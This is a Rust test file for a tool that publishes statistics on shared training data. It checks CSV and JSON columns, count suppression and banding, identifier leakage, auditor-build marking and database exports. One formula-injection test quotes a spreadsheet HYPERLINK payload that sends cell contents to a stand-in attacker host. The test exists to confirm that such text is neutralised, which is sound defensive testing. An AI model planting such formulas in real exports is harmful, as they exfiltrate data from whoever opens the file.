//! The CSV and JSON downloads: the SPEC's columns and row order, suppression, snapshots.

use crate::support::{build, build_exact, fixture, read};

/// The downloads of the basic fixture that are snapshot-tested and checked for suppression.
const TABLES: [&str; 6] = [
    "shared-items",
    "exports",
    "partners",
    "opt-outs-monthly",
    "deletions",
    "findings",
];

#[test]
fn downloads_match_their_snapshots() {
    let (_dir, out) = build(&fixture("basic"));
    for name in TABLES {
        insta::assert_snapshot!(
            format!("{name}.csv"),
            read(&out, &format!("data/{name}.csv"))
        );
        insta::assert_snapshot!(
            format!("{name}.json"),
            read(&out, &format!("data/{name}.json"))
        );
    }
}

#[test]
fn shared_items_has_the_spec_columns_in_order() {
    let (_dir, out) = build(&fixture("basic"));
    let csv = read(&out, "data/shared-items.csv");
    assert_eq!(
        csv.lines().next(),
        Some(
            "partner,export,category,year,items,private,deleted,suspended,explicit,minor,opted_out,not_declared"
        )
    );
    // The SPEC's columns come first, in its order; sharelog's additions follow them.
    let exports = read(&out, "data/exports.csv");
    assert_eq!(
        exports.lines().next(),
        Some(
            "export,partner,exported_at,items,categories,first_year,last_year,opt_outs_in_force,owners,owners_opted_out"
        )
    );
    let monthly = read(&out, "data/opt-outs-monthly.csv");
    assert_eq!(
        monthly.lines().next(),
        Some(
            "month,opted_out,withdrawn,active,accounts,opted_out_account_setting,opted_out_support_request,opted_out_robots_txt,opted_out_tdmrep,opted_out_gpc,opted_out_other,months"
        )
    );
}

#[test]
fn rows_are_sorted_by_partner_export_category_year() {
    let (_dir, out) = build(&fixture("basic"));
    let csv = read(&out, "data/shared-items.csv");
    let keys: Vec<(String, String, String, i32)> = csv
        .lines()
        .skip(1)
        .map(|l| {
            let f: Vec<&str> = l.split(',').collect();
            (
                f[0].into(),
                f[1].into(),
                f[2].into(),
                f[3].parse().expect("year"),
            )
        })
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
    assert!(keys.len() >= 5, "{csv}");
}

#[test]
fn suppresses_counts_below_min_count_everywhere() {
    let (_dir, out) = build(&fixture("basic"));
    // min_count is 3: the declared photo/2021 cell of 2 items is hidden in CSV, JSON and HTML.
    let csv = read(&out, "data/shared-items.csv");
    assert!(
        csv.contains("alpha-ai,alpha-1,photo,2021,,,,,0,,,deleted;suspended;minor;opted_out\n"),
        "{csv}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&read(&out, "data/shared-items.json")).expect("valid JSON");
    let cell = json
        .as_array()
        .expect("array")
        .iter()
        .find(|r| r["export"] == "alpha-1" && r["category"] == "photo")
        .expect("photo row");
    assert!(cell["items"].is_null());
    // alpha-1's declared counts give private and explicit only: the other flags are not
    // declared (null, named in not_declared), never 0.
    assert_eq!(cell["explicit"], 0);
    assert!(cell["deleted"].is_null());
    assert_eq!(cell["not_declared"], "deleted;suspended;minor;opted_out");
    let html = read(&out, "exports/alpha-1/index.html");
    assert!(
        html.contains(">suppressed<"),
        "a suppressed cell reads \"suppressed\""
    );
    assert!(!html.contains("&lt;3"), "no false \"<3\" for a hidden cell");
    // No published number in any download lies strictly between 0 and min_count.
    // Findings counting files, cells, requests or months are not about people: never suppressed.
    let not_items = [
        "checksum-mismatch",
        "declared-count-mismatch",
        "deletion-overdue",
        "opt-out-statistics-mismatch",
    ];
    for name in TABLES {
        let json: serde_json::Value =
            serde_json::from_str(&read(&out, &format!("data/{name}.json"))).expect("valid JSON");
        for row in json.as_array().expect("array") {
            if row["id"].as_str().is_some_and(|id| not_items.contains(&id)) {
                continue;
            }
            for (key, v) in row.as_object().expect("object") {
                if key.starts_with("requests") {
                    continue;
                }
                if [
                    "year",
                    "first_year",
                    "last_year",
                    "categories",
                    "exports",
                    "deletion_deadline_days",
                    "months",
                ]
                .contains(&key.as_str())
                {
                    continue;
                }
                if let Some(n) = v.as_u64() {
                    assert!(n == 0 || n >= 3, "{name}.{key} = {n}");
                }
            }
        }
    }
}

#[test]
fn counts_items_in_the_utc_year_of_creation() {
    // Exact counts: this is about years, not suppression.
    let (_dir, out) = build_exact(&fixture("basic"));
    let csv = read(&out, "data/shared-items.csv");
    // 2022-01-01T00:30:00+01:00 is 2021 in UTC; 2022-12-31T23:30:00-01:00 is 2023.
    assert!(csv.contains("beta-research,beta-1,text,2021,3,"), "{csv}");
    assert!(csv.contains("beta-research,beta-1,photo,2023,1,"), "{csv}");
    assert!(csv.contains("beta-research,beta-1,photo,2022,3,"), "{csv}");
}

#[test]
fn computes_active_opt_outs_as_a_running_balance() {
    let (_dir, out) = build(&fixture("basic"));
    let csv = read(&out, "data/opt-outs-monthly.csv");
    let active: Vec<&str> = csv
        .lines()
        .skip(1)
        .map(|l| l.split(',').nth(3).unwrap_or(""))
        .collect();
    assert_eq!(active, vec!["100", "140", "137"]);
}

/// Rewrites the first column of a CSV (an identifier) as `PREFIX-<hex>-<row>`: tokens that cannot
/// occur in the output by accident.
fn recognisable_ids(path: &std::path::Path, prefix: &str, column: usize) -> Vec<String> {
    let text = std::fs::read_to_string(path).expect("csv");
    let mut ids = Vec::new();
    let mut out = String::new();
    for (i, line) in text.lines().enumerate() {
        if i == 0 {
            out.push_str(line);
        } else {
            let mut cells: Vec<String> = line.split(',').map(str::to_owned).collect();
            let id = format!("{prefix}-7f3a9c{i:04}-{}", cells[column]);
            cells[column] = id.clone();
            ids.push(id);
            out.push_str(&cells.join(","));
        }
        out.push('\n');
    }
    std::fs::write(path, out).expect("write csv");
    ids
}

#[test]
fn no_item_owner_or_request_identifier_reaches_any_byte_of_the_output() {
    // The findings fixture has an item listing, an opt-out ledger and deletion requests.
    let (_dir, root) = crate::support::fixture_copy("findings");
    let data = root.join("data");
    let mut ids = recognisable_ids(&data.join("exports/x1.csv"), "ITEMID", 0);
    // Owners appear in the listing and the ledger: the same owner gets the same token in both.
    let owners = |path: &std::path::Path, column: usize| {
        let text = std::fs::read_to_string(path).expect("csv");
        let re: String = text
            .lines()
            .enumerate()
            .map(|(i, l)| {
                if i == 0 {
                    return format!("{l}\n");
                }
                let mut cells: Vec<String> = l.split(',').map(str::to_owned).collect();
                cells[column] = format!("OWNERID-c0ffee-{}", cells[column]);
                format!("{}\n", cells.join(","))
            })
            .collect();
        std::fs::write(path, re).expect("write");
    };
    owners(&data.join("exports/x1.csv"), 1);
    owners(&data.join("opt-outs/ledger.csv"), 0);
    ids.extend(recognisable_ids(
        &data.join("deletions/requests.csv"),
        "REQID",
        0,
    ));
    let listing = std::fs::read_to_string(data.join("exports/x1.csv")).expect("listing");
    for line in listing.lines().skip(1) {
        ids.push(line.split(',').nth(1).expect("owner").to_owned());
    }
    assert!(ids.len() > 10, "{ids:?}");
    // The byte search finds every kind of token in the inputs it was planted in.
    let inputs: Vec<u8> = [
        "exports/x1.csv",
        "opt-outs/ledger.csv",
        "deletions/requests.csv",
    ]
    .iter()
    .flat_map(|f| std::fs::read(data.join(f)).expect("input"))
    .collect();
    for needle in ["ITEMID", "OWNERID", "REQID"] {
        assert!(inputs.windows(needle.len()).any(|w| w == needle.as_bytes()));
    }
    // Both the published build and the auditor's build, every byte of every file, Parquet too.
    for exact in [false, true] {
        let (_out_dir, out) = if exact {
            build_exact(&root)
        } else {
            build(&root)
        };
        let files = crate::support::contents(&out);
        assert!(files.len() > 40);
        // The build read the rewritten inputs: the fixture's findings are still found.
        assert!(read(&out, "data/findings.csv").contains("opted-out-content-shared"));
        for (path, bytes) in &files {
            for needle in ["ITEMID", "OWNERID", "REQID", "7f3a9c", "c0ffee"] {
                assert!(
                    !bytes.windows(needle.len()).any(|w| w == needle.as_bytes()),
                    "{path} holds `{needle}` (exact build: {exact})"
                );
            }
        }
    }
}

#[test]
fn an_auditors_build_marks_every_file_and_a_normal_build_none() {
    let mark = "NOT FOR PUBLICATION";
    let (_dir, out) = build_exact(&fixture("basic"));
    let files = crate::support::contents(&out);
    assert!(files.len() > 40);
    for (path, bytes) in &files {
        // The list of files `build` wrote, for the next build: names only, no number.
        if path == ".sharelog-site" {
            continue;
        }
        if path.ends_with(".sqlite") {
            let db = rusqlite::Connection::open_in_memory().expect("sqlite");
            let file = tempfile::NamedTempFile::new().expect("temporary file");
            std::fs::write(file.path(), bytes).expect("write");
            db.execute(
                "ATTACH DATABASE ?1 AS site",
                [file.path().to_str().expect("utf-8")],
            )
            .expect("attach");
            let unmarked: i64 = db
                .query_row(
                    "SELECT count(*) FROM site.exports WHERE not_for_publication IS NULL",
                    [],
                    |r| r.get(0),
                )
                .expect("marked column");
            assert_eq!(unmarked, 0, "{path}");
            continue;
        }
        if path.ends_with(".xlsx") {
            // Zipped XML: the marker is in its shared strings.
            let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.clone())).expect("zip");
            let mut strings = String::new();
            std::io::Read::read_to_string(
                &mut zip.by_name("xl/sharedStrings.xml").expect("strings"),
                &mut strings,
            )
            .expect("read");
            assert!(strings.contains(mark), "{path} is not marked");
            continue;
        }
        if path.ends_with(".parquet") {
            use polars::prelude::SerReader;
            let df = polars::prelude::ParquetReader::new(std::io::Cursor::new(bytes.clone()))
                .finish()
                .expect("parquet");
            let column = df.column("not_for_publication").expect("marked column");
            assert_eq!(column.null_count(), 0, "{path}");
            continue;
        }
        let text = String::from_utf8(bytes.clone()).expect("utf-8");
        // An empty table has no row to mark: its CSV header still ends with the column.
        let empty_table =
            text.trim() == "[]" || (path.ends_with(".csv") && text.lines().count() == 1);
        assert!(empty_table || text.contains(mark), "{path} is not marked");
        if path.ends_with(".csv") {
            let mut lines = text.lines();
            assert!(
                lines
                    .next()
                    .is_some_and(|h| h.ends_with(",not_for_publication")),
                "{path}"
            );
        }
    }
    // The counts are exact: the photo/2021 cell of 2 items is published.
    assert!(read(&out, "data/shared-items.csv").contains("alpha-ai,alpha-1,photo,2021,2,"));
    let (_dir, out) = build(&fixture("basic"));
    for (path, bytes) in crate::support::contents(&out) {
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains(mark), "{path} is marked in a normal build");
    }
}

/// The findings fixture with `privacy.bands` for deletions and opt-out scopes.
fn banded_root() -> (tempfile::TempDir, std::path::PathBuf) {
    let (dir, root) = crate::support::fixture_copy("findings");
    let path = root.join("report.yaml");
    let text = std::fs::read_to_string(&path).expect("report.yaml");
    // min_count 1: only the bands protect anything.
    let text = text.replace(
        "privacy:\n  min_count: 3\n",
        "privacy:\n  min_count: 1\n  bands:\n    width: 50\n    tables: [deletions, opt-out-scopes]\n",
    );
    assert!(text.contains("width: 50"), "{text}");
    std::fs::write(&path, text).expect("write");
    (dir, root)
}

#[test]
fn banded_tables_publish_ranges_everywhere_and_give_nothing_away() {
    let (_root_dir, root) = banded_root();
    let (_dir, out) = build(&root);
    let (_exact_dir, exact) = build_exact(&root);
    let band = |cell: &str| -> Option<(u64, u64)> {
        let (lo, hi) = cell.split_once('-')?;
        Some((lo.parse().ok()?, hi.parse().ok()?))
    };
    // Every item count of deletions is a band of 50 holding the exact count, except the items of
    // a state no request is in: readers know those are 0, so they read 0, never `0-49`.
    let published = records_of(&out.join("data/deletions.csv"));
    let exact_rows = records_of(&exact.join("data/deletions.csv"));
    assert!(!published.is_empty());
    let mut zeros = 0;
    for (p, e) in published.iter().zip(&exact_rows) {
        assert_eq!(p[..8], e[..8], "request counts stay exact");
        // items ↔ requests, items_acknowledged ↔ requests_acknowledged, items_completed ↔
        // requests_completed, items_overdue ↔ requests_overdue.
        for (k, requests) in [(8, 2), (9, 3), (10, 4), (11, 7)] {
            if e[requests] == "0" {
                assert_eq!(p[k], "0", "a known zero is published as 0: {p:?}");
                zeros += 1;
                continue;
            }
            let (lo, hi) = band(&p[k]).unwrap_or_else(|| panic!("not a band: {:?}", p[k]));
            let n: u64 = e[k].parse().expect("exact count");
            assert!(
                lo <= n && n <= hi && hi - lo == 49 && lo % 50 == 0,
                "{n} in {}",
                p[k]
            );
        }
    }
    assert!(zeros > 0, "the root has requests that are not overdue");
    // Scope counts are bands, or 0 where the published numbers already tell a reader so.
    let scopes = read(&out, "data/opt-out-scopes.csv");
    assert!(
        scopes.lines().skip(1).all(|l| l
            .rsplit(',')
            .next()
            .is_some_and(|c| c == "0" || band(c).is_some())),
        "{scopes}"
    );
    // The Data Package says so.
    let package: serde_json::Value =
        serde_json::from_str(&read(&out, "data/datapackage.json")).expect("json");
    let deletions = package["resources"]
        .as_array()
        .expect("resources")
        .iter()
        .find(|r| r["name"] == "deletions")
        .expect("deletions");
    let items = &deletions["schema"]["fields"][8];
    assert_eq!(items["name"], "items");
    assert_eq!(items["type"], "string");
    assert_eq!(items["constraints"]["pattern"], "^[0-9]+-[0-9]+$|^0$");
    // Pages show bands, and no exact banded count appears in a finding's sentence.
    let acme = read(&out, "partners/acme/index.html");
    assert!(
        acme.contains("0–49") || acme.contains("50–99") || acme.contains("100–149"),
        "{acme}"
    );
    let findings = read(&out, "data/findings.csv");
    // beta's one overdue month holds 2 items: the exact build says so, the banded one must not.
    assert!(read(&exact, "data/findings.csv").contains("covering 2 items"));
    assert!(
        findings.contains("covering a suppressed number of items"),
        "{findings}"
    );
    for r in &exact_rows {
        if r[11] != "0" {
            // An overdue month's exact items could only reach a sentence through the
            // deletion-overdue finding; it never does when it would give a band away.
            let partner = &r[0];
            let months_overdue = exact_rows
                .iter()
                .filter(|x| &x[0] == partner && x[11] != "0")
                .count();
            if months_overdue == 1 {
                assert!(
                    !findings.contains(&format!("covering {} items", r[11])),
                    "{partner}: {findings}"
                );
            }
        }
    }
}

fn records_of(path: &std::path::Path) -> Vec<Vec<String>> {
    csv::Reader::from_path(path)
        .expect("csv")
        .records()
        .map(|r| r.expect("row").iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn text_a_spreadsheet_would_run_as_a_formula_is_written_as_text_in_csv() {
    // Partner names that are formulas, and a finding message that starts with one.
    let (_dir, out) = build(&fixture("formula-names"));
    let partners = read(&out, "data/partners.csv");
    assert!(
        partners.contains(r#","'=HYPERLINK(""https://evil.example/?x=""&A3,""Click"")","#),
        "{partners}"
    );
    assert!(partners.contains(",'@SUM(1+1),"), "{partners}");
    // No cell of any CSV starts with a character that makes a formula; counts stay numbers.
    for file in crate::support::files(&out.join("data")) {
        if !file.ends_with(".csv") {
            continue;
        }
        let text = read(&out, &format!("data/{file}"));
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.expect("record").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file}: {cell:?}"
                );
            }
        }
    }
    // JSON keeps the text as it is.
    let json = read(&out, "data/partners.json");
    assert!(json.contains(r#""name": "=HYPERLINK("#), "{json}");
}

/// `deletions-by-export` groups the same requests as `deletions`: per partner its requests and
/// items add up to the partner's, and the findings about a batch's opted-out or sensitive items
/// say what the requests naming it with the matching reason asked for.
#[test]
fn deletion_requests_by_export_and_reason_add_up_and_reach_the_findings() {
    let (_dir, out) = build_exact(&crate::support::repo());
    let groups = records_of(&out.join("data/deletions-by-export.csv"));
    let partners = records_of(&out.join("data/partners.csv"));
    let header = read(&out, "data/partners.csv");
    let head: Vec<&str> = header.lines().next().expect("header").split(',').collect();
    let at = |name: &str| head.iter().position(|h| *h == name).expect(name);
    assert!(groups.iter().any(|g| !g[1].is_empty() && !g[2].is_empty()));
    for p in &partners {
        let mine: Vec<_> = groups.iter().filter(|g| g[0] == p[0]).collect();
        let sum = |k: usize| -> u64 { mine.iter().map(|g| g[k].parse::<u64>().expect("n")).sum() };
        assert_eq!(sum(3).to_string(), p[at("deletion_requests")], "{p:?}");
        assert_eq!(sum(6).to_string(), p[at("deletion_items")], "{p:?}");
    }
    let findings = records_of(&out.join("data/findings.csv"));
    let mut said = 0;
    for f in findings
        .iter()
        .filter(|f| f[0] == "opted-out-content-shared" || f[0] == "sensitive-content-shared")
    {
        let reason = if f[0] == "opted-out-content-shared" {
            "opt-out"
        } else {
            "sensitive-content"
        };
        let message = &f[6];
        match groups
            .iter()
            .find(|g| g[0] == f[2] && g[1] == f[3] && g[2] == reason)
        {
            Some(g) => {
                let items: u64 = g[6].parse().expect("items");
                let text = format!("asked for {} items to be deleted", fmt_thousands(items));
                assert!(message.contains(&text), "{message} lacks {text}");
                said += 1;
            }
            None => assert!(
                message.contains("No deletion request that names this batch gives"),
                "{message}"
            ),
        }
    }
    assert!(said >= 2, "the example's findings name requests");
}

fn fmt_thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// `data/report.sqlite` holds every table with its CSV's rows (integers as integers, empty cells
/// NULL, banded counts as their labels) and the dictionary; it and `data/report.xlsx` are listed
/// with their checksums in SHA256SUMS and datapackage.json.
#[test]
fn the_database_and_workbook_hold_every_table_and_are_listed() {
    let (_root_dir, root) = banded_root();
    let (_dir, out) = build(&root);
    let db = rusqlite::Connection::open_with_flags(
        out.join("data/report.sqlite"),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .expect("open the database");
    let package: serde_json::Value =
        serde_json::from_str(&read(&out, "data/datapackage.json")).expect("json");
    let resources = package["resources"].as_array().expect("resources");
    let tables: Vec<&serde_json::Value> = resources
        .iter()
        .filter(|r| r.get("schema").is_some())
        .collect();
    assert!(tables.len() >= 10);
    for table in &tables {
        let name = table["name"].as_str().expect("name");
        let csv = records_of(&out.join(format!("data/{name}.csv")));
        let fields = table["schema"]["fields"].as_array().expect("fields");
        let mut statement = db
            .prepare(&format!("SELECT * FROM \"{name}\" ORDER BY rowid"))
            .expect("select");
        let rows: Vec<Vec<String>> = statement
            .query_map([], |row| {
                (0..fields.len())
                    .map(|i| {
                        Ok(match row.get_ref(i)? {
                            rusqlite::types::ValueRef::Null => String::new(),
                            rusqlite::types::ValueRef::Integer(n) => n.to_string(),
                            rusqlite::types::ValueRef::Text(t) => {
                                String::from_utf8_lossy(t).into_owned()
                            }
                            other => format!("{other:?}"),
                        })
                    })
                    .collect()
            })
            .expect("query")
            .map(|r| r.expect("row"))
            .collect();
        // CSV text that a spreadsheet would run as a formula has a leading apostrophe there.
        let csv: Vec<Vec<String>> = csv
            .into_iter()
            .map(|r| {
                r.into_iter()
                    .map(|c| match c.strip_prefix('\'') {
                        Some(rest) if rest.starts_with(['=', '+', '-', '@']) => rest.to_owned(),
                        _ => c,
                    })
                    .collect()
            })
            .collect();
        assert_eq!(rows, csv, "{name}");
        for f in fields {
            let column = f["name"].as_str().expect("name");
            let declared: String = db
                .query_row(
                    &format!("SELECT type FROM pragma_table_info('{name}') WHERE name = ?1"),
                    [column],
                    |r| r.get(0),
                )
                .expect("column");
            let want = if f["type"] == "integer" {
                "INTEGER"
            } else {
                "TEXT"
            };
            assert_eq!(declared, want, "{name}.{column}");
        }
    }
    // Banded counts are their labels, in a text column.
    let band: String = db
        .query_row(
            "SELECT items FROM deletions WHERE items LIKE '%-%' LIMIT 1",
            [],
            |r| r.get(0),
        )
        .expect("a banded count");
    assert!(band.contains('-'), "{band}");
    let described: i64 = db
        .query_row("SELECT count(*) FROM dictionary", [], |r| r.get(0))
        .expect("dictionary");
    let columns: usize = tables
        .iter()
        .map(|t| t["schema"]["fields"].as_array().map_or(0, Vec::len))
        .sum();
    assert_eq!(described as usize, columns);
    let sums = read(&out, "data/SHA256SUMS");
    for file in ["report.xlsx", "report.sqlite"] {
        assert!(sums.contains(file), "{sums}");
        assert!(
            resources
                .iter()
                .any(|r| r["path"] == file && r["hash"].is_string()),
            "{file} in datapackage.json"
        );
    }
}
